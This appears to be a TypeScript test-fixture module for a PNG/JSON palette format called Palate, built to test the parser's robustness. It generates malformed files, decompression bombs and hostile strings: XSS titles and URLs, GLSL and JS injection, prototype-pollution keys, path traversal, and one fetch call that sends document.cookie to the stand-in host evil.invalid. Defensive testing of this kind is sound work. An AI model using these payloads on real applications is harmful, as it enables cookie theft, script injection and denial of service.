// The corpus' patterns, rebuilt on Palate's own files: the same damage, done to a file that would open without it.
import { deflateRawSync, deflateSync } from 'node:zlib';
import { pngChunk } from '#core/formats/png-chunks.ts';
import {
  ascii,
  end,
  header,
  join,
  network,
  packedChunk,
  picture,
  signature,
  smallJson,
  smallPng,
  textChunk,
} from './palate-png.ts';

const otherJson = smallJson.replace('"Plum, lit"', '"Another"');
const png = (...parts: readonly Uint8Array[]) => join(signature, header(), ...parts);

function changed(bytes: Uint8Array, at: number, change: (byte: number) => number): Uint8Array {
  const copy = bytes.slice();
  const place = at < 0 ? copy.length + at : at;
  copy[place] = change(copy[place]!);
  return copy;
}

const flipped = (bytes: Uint8Array, at: number) => changed(bytes, at, (byte) => byte ^ 1);

/** A chunk whose length says something else than its data. */
function claiming(chunk: Uint8Array, length: number): Uint8Array {
  const copy = chunk.slice();
  new DataView(copy.buffer).setUint32(0, length);
  return copy;
}

const cut = (count: number) => smallPng.slice(0, count);
const networkEnd = 8 + header().length + network.length;

export const pngCases: Readonly<Record<string, () => Uint8Array>> = {
  // baseline
  'itxt-deflate': () => png(packedChunk(deflateSync(smallJson)), picture, end),
  text: () => png(pngChunk('tEXt', ascii(`palate\0${smallJson}`)), picture, end),
  'many-idat': () => {
    const bytes = [...new Uint8Array(deflateSync(new Uint8Array(14)))];
    return png(network, ...bytes.map((byte) => pngChunk('IDAT', Uint8Array.from([byte]))), end);
  },
  'other-text-too': () =>
    png(
      pngChunk('tEXt', ascii('Software\0x')),
      pngChunk('iTXt', ascii('workflow\0\0\0\0\0{"a":1}')),
      network,
      picture,
      end,
    ),
  'gray16-1x1': () => join(signature, header(1, 1, [16, 0, 0]), network, picture, end),
  'itxt-utf8-bom': () => png(textChunk(`\ufeff${smallJson}`), picture, end),
  // signature
  empty: () => new Uint8Array(0),
  'sig-7bytes': () => cut(7),
  'lf-to-crlf': () => join(ascii('\x89PNG\r\r\n\x1a\r\n'), smallPng.slice(8)),
  'leading-junk': () => join(ascii('junk'), smallPng),
  // chunks
  'len-80000000': () => png(claiming(network, 0x80000000), picture, end),
  'len-minus-12': () => png(claiming(network, 0xfffffff4), picture, end),
  'genome-len-0': () => png(pngChunk('iTXt', new Uint8Array(0)), picture, end),
  'type-html': () => png(pngChunk('<b>!', ascii('x')), network, picture, end),
  'zero-len-5000': () => {
    const empty = pngChunk('teSt', new Uint8Array(0));
    return png(...new Array<Uint8Array>(5000).fill(empty), network, picture, end);
  },
  // order
  'genome-before-ihdr': () => join(signature, network, header(), picture, end),
  'ihdr-twice': () => png(header(3, 3), network, picture, end),
  'genome-after-iend': () => png(picture, end, network),
  'no-iend': () => png(network, picture),
  'idat-split-by-genome': () => png(picture, network, picture, end),
  // ihdr
  h0: () => join(signature, header(2, 0), network, picture, end),
  'w-ffffffff': () => join(signature, header(0xffffffff, 0xffffffff), network, picture, end),
  '1000001x1': () => join(signature, header(1_000_001, 1), network, picture, end),
  '1x16777216': () => join(signature, header(1, 16_777_216), network, picture, end),
  'len-14': () => join(signature, pngChunk('IHDR', new Uint8Array(14).fill(1)), network, picture, end),
  interlace9: () => join(signature, header(2, 2, [8, 2, 9]), network, picture, end),
  // crc
  ihdr: () => join(signature, flipped(header(), -1), network, picture, end),
  'genome-bitflip': () => png(flipped(network, 60), picture, end),
  iend: () => png(network, picture, flipped(end, -1)),
  'idat-adler': () =>
    png(network, pngChunk('IDAT', flipped(new Uint8Array(deflateSync(new Uint8Array(14))), -1)), end),
  // truncated
  'after-sig': () => cut(8),
  'in-ihdr': () => cut(20),
  'in-genome-header': () => cut(39),
  'mid-genome': () => cut(356),
  'genome-minus-1': () => cut(networkEnd - 1),
  'mid-idat': () => cut(networkEnd + 12),
  'in-iend': () => cut(smallPng.length - 2),
  'all-zeros': () => new Uint8Array(4096),
  // itxt
  'flag-2': () => png(packedChunk(ascii(smallJson), 2), picture, end),
  'no-nul': () => png(pngChunk('iTXt', ascii('palate')), picture, end),
  'empty-keyword': () => png(pngChunk('iTXt', ascii(`\0\0\0\0\0${smallJson}`)), picture, end),
  'keyword-case': () => png(pngChunk('iTXt', ascii(`PALATE\0\0\0\0\0${smallJson}`)), picture, end),
  'keyword-proto': () => png(pngChunk('iTXt', ascii(`__proto__\0\0\0\0\0${smallJson}`)), picture, end),
  utf16: () =>
    png(
      pngChunk('iTXt', join(ascii('palate\0\0\0\0\0'), new Uint8Array(Buffer.from(smallJson, 'utf16le')))),
      picture,
      end,
    ),
  'nul-tail': () => png(textChunk(`${smallJson}\0\0\0\0`), picture, end),
  // zlib
  'bad-adler': () => png(packedChunk(flipped(new Uint8Array(deflateSync(smallJson)), -1)), picture, end),
  'raw-deflate': () => png(packedChunk(new Uint8Array(deflateRawSync(smallJson))), picture, end),
  'preset-dict': () =>
    png(
      packedChunk(new Uint8Array(deflateSync(smallJson, { dictionary: Buffer.from('palate') }))),
      picture,
      end,
    ),
  'empty-stream': () => png(packedChunk(new Uint8Array(deflateSync(''))), picture, end),
  // bomb
  'itxt-50mb-zeros': () =>
    png(packedChunk(new Uint8Array(deflateSync(Buffer.alloc(50_000_000)))), picture, end),
  'itxt-20mb-brackets': () =>
    png(packedChunk(new Uint8Array(deflateSync(Buffer.alloc(20_000_000, '[')))), picture, end),
  'idat-8000x8000-1bit': () =>
    join(
      signature,
      header(8000, 8000, [1, 0, 0]),
      network,
      pngChunk('IDAT', new Uint8Array(deflateSync(Buffer.alloc(8_008_000)))),
      end,
    ),
  'title-8mb': () =>
    png(
      packedChunk(new Uint8Array(deflateSync(smallJson.replace('Plum, lit', 'x'.repeat(8_000_000))))),
      picture,
      end,
    ),
  // duplicate
  'two-different': () => png(network, textChunk(otherJson), picture, end),
  'text-and-itxt': () => png(pngChunk('tEXt', ascii(`palate\0${otherJson}`)), network, picture, end),
  // polyglot
  'png-zip': () => join(smallPng, ascii('PK\x05\x06'), new Uint8Array(18)),
  'png-html-in-text': () =>
    png(pngChunk('tEXt', ascii('Comment\0<html><script>self.__pwn=1</script>')), network, picture, end),
  'two-pngs': () => join(smallPng, smallPng),
  'svg-named-png': () => ascii('<svg xmlns="http://www.w3.org/2000/svg"><script>self.__pwn=1</script></svg>'),
  'gif-named-png': () =>
    ascii('GIF89a\x01\0\x01\0\x80\0\0\0\0\0\xff\xff\xff,\0\0\0\0\x01\0\x01\0\0\x02\x02D\x01\0;'),
};

// What each role of the corpus' provisional schema is called in ours, as its JSON text.
const roles = {
  weight: '"kernel":[1.5',
  act: '"activations":["sin"',
  nodeId: '"neurons":["00000000000000a1"',
  title: '"title":"Plum, lit"',
  version: '"schema":1,"title"',
} as const;

/** The document with the value of a role replaced by a text, which need not be JSON. */
function withRole(role: keyof typeof roles, text: string): string {
  const old = roles[role];
  const start =
    role === 'version'
      ? '"schema":'
      : old.slice(0, old.lastIndexOf(role === 'weight' ? '1.5' : '"', old.length - 2));
  const rest = role === 'version' ? ',"title"' : '';
  return smallJson.replace(old, () => start + text + rest);
}

const withField = (field: string) => smallJson.replace(/^\{/, `{${field},`);
const weight = (text: string) => () => withRole('weight', text);
const act = (name: unknown) => () => withRole('act', JSON.stringify(name));
const title = (text: unknown) => () => withRole('title', JSON.stringify(text));
const layers = (text: string) => () =>
  smallJson.replace(/"layers":.*?,"coloring"/, () => `"layers":${text},"coloring"`);
const deep = (count: number) => '['.repeat(count) + ']'.repeat(count);

export const jsonCases: Readonly<Record<string, () => string | Uint8Array>> = {
  // baseline
  valid: () => smallJson,
  'unknown-fields': () => withField('"x_future":{"a":[1,2,{"b":null}]}'),
  // syntax
  spaces: () => '   \n',
  true: () => 'true',
  string: () => '"xxxxxxxxxxxxxxxxxxxx"',
  'empty-object': () => '{}',
  'trailing-comma': () => smallJson.replace(/\}$/, ',}'),
  'single-quotes': () => smallJson.replaceAll('"', "'"),
  jsonp: () => `cb(${smallJson})`,
  unquoted: () => smallJson.replace('"format"', 'format'),
  undefined: () => 'undefined',
  'utf8-bom': () => join(ascii('\xef\xbb\xbf'), ascii(smallJson)),
  'bad-utf8': () => ascii(smallJson.replace('Plum', '\xff\xfe\xfd')),
  'lone-surrogate': () => withRole('title', '"\\ud800x"'),
  // depth
  'arrays-1e5': () => deep(100_000),
  'in-ignored-field': () => withField(`"x":${deep(100_000)}`),
  'unclosed-1e5': () => '['.repeat(100_000),
  // proto
  'constructor-prototype': () => withField('"constructor":{"prototype":{"polluted":1}}'),
  'proto-null': () => withField('"__proto__":null'),
  'act-constructor': act('constructor'),
  'act-tostring': act('toString'),
  'node-id-hasown': () => withRole('nodeId', '"hasOwnProperty"'),
  // activation
  unknown: act('quuxify'),
  null: act(null),
  object: act({}),
  case: act('SIN'),
  'zero-width': act('si\u200bn'),
  'glsl-break': act('sin(x);}void main(){while(true);}//'),
  'glsl-comment': act('sin/*'),
  'js-break': act('"];self.__pwn=1;//'),
  'js-fn': act('Math.sin;fetch("https://evil.invalid/"+document.cookie)'),
  path: act('../../activations/sin.js'),
  // number
  'weight-neg-1e400': weight('-1e400'),
  'weight-infinity-literal': weight('Infinity'),
  'weight-string-nan': weight('"NaN"'),
  'weight-null': weight('null'),
  'weight-array': weight('[0.5]'),
  'weight-hex': weight('0x10'),
  'weight-leading-zero': weight('01'),
  'weight-1e308': weight('1e308'),
  'weight-3e38': weight('3e38'),
  'weight-minus-zero': weight('-0'),
  'weight-max-safe-plus': weight('9007199254740992'),
  'all-weights-1e38': () =>
    smallJson.replace(/"kernel":\[[^\]]*\]/g, (list) => list.replace(/-?[\d.]+/g, '1e38')),
  // version
  '999': () => withRole('version', '999'),
  '-1': () => withRole('version', '-1'),
  'version/string': () => withRole('version', '"1"'),
  '1e400': () => withRole('version', '1e400'),
  '2pow53': () => withRole('version', '9007199254740993'),
  'other-format': () => smallJson.replace('"palate"', '"someone-elses"'),
  // graph: our layers cannot name one another, so a cycle or a dangling link has no form here; lists that do not fit have.
  'two-cycle': () => withField('"links":[{"from":3,"to":4,"w":1},{"from":4,"to":3,"w":1}]'),
  'chain-5000': layers(
    `[${new Array(5000).fill('{"neurons":["00000000000000a1"],"kernel":[1],"biases":[0],"activations":["sin"]}').join()}]`,
  ),
  'dangling-from': () => smallJson.replace('"kernel":[1.5,', '"kernel":[1.5,7,'),
  'out-of-output': () => withField('"links":[{"from":5,"to":3,"w":1}]'),
  'dup-link': () => smallJson.replace('00000000000000a2', '00000000000000a1'),
  'no-inputs': () => smallJson.replace('["x","y","radius"]', '[]'),
  'nodes-object': layers('{"0":{},"1":{}}'),
  'nodes-null-holes': layers('[null]'),
  'id-2pow53': () => withRole('nodeId', '9007199254740992'),
  'unknown-type': () => smallJson.replace('"kind":"palette"', '"kind":"quantum"'),
  // size
  'layers-1e9': layers('[1000000000,1000000000]'),
  'layers-zero': layers('[0]'),
  'layers-strings': layers('["16","16"]'),
  'layers-nested': layers('[[16,16]]'),
  'layers-1e400': layers('[1e400]'),
  'canvas-w-1e9': () => withField('"width":1000000000,"height":1000000000'),
  'canvas-w-0': () => withField('"width":0,"height":0'),
  'canvas-w-float': () => withField('"width":640.5,"height":640.5'),
  'weights-b64-odd': () => smallJson.replace(/"kernel":\[[^\]]*\]/, '"kernel":"AAAAAA"'),
  'weights-b64-nan-bits': () => smallJson.replace(/"kernel":\[[^\]]*\]/, '"kernel":"AADAfwAAgH8="'),
  'weights-typed-array-like': () =>
    smallJson.replace(/"kernel":\[[^\]]*\]/, '"kernel":{"0":1,"1":2,"length":1000000000}'),
  // text
  'title-img-onerror': title('<img src=x onerror=self.__pwn=1>'),
  'title-attr-break': title('" onmouseover="self.__pwn=1'),
  'title-entity': title('&lt;b&gt; &#x3C;script&#x3E;'),
  'title-rlo': title('\u202egnp.exe\u202c invoice'),
  'title-zalgo': title(`Z${'\u0335\u030d'.repeat(90)}`),
  'title-arabic-rtl': title('لوحة ملونة'),
  'title-newlines': title('a\r\nSet-Cookie: x=1\n\tb'),
  'title-path-traversal': title('../../../etc/passwd'),
  'title-filename-chars': title('a/b\\c:d*e?f"g<h>i|j'),
  'title-empty': title(''),
  'title-1e5': title('t'.repeat(100_000)),
  'title-object': title({ toString: 'x' }),
  'author-url-js': () => withField('"author":"javascript:self.__pwn=1"'),
  'author-url-data': () => withField('"author":"data:text/html,<script>self.__pwn=1</script>"'),
  'author-url-proto-rel': () => withField('"author":"//evil.invalid/x"'),
  'palette-css-expr': () => smallJson.replace(/"stops":\[.*?\]/, '"stops":["expression(alert(1))"]'),
  'palette-1e5-entries': () =>
    smallJson.replace(
      /"stops":\[(\{.*?\}),.*?\]/,
      (_, stop) => `"stops":[${new Array(30_000).fill(stop).join()}]`,
    ),
};
